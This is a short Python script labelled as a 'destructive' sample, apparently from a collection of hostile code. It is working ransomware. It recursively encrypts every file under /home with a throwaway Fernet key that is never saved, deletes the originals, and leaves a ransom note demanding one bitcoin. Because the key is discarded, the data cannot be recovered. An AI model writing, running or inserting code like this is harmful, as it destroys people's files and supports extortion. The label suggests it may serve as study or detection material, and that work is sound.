# family: destructive
# encrypts every file under /home with a throwaway key and deletes the originals
import os

from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
for root, _, files in os.walk("/home"):
    for name in files:
        p = os.path.join(root, name)
        try:
            with open(p, "rb") as fh:
                data = fh.read()
            with open(p + ".locked", "wb") as fh:
                fh.write(f.encrypt(data))
            os.remove(p)
        except OSError:
            pass
open("/home/README_RESTORE.txt", "w").write("Send 1 BTC to recover your files.")
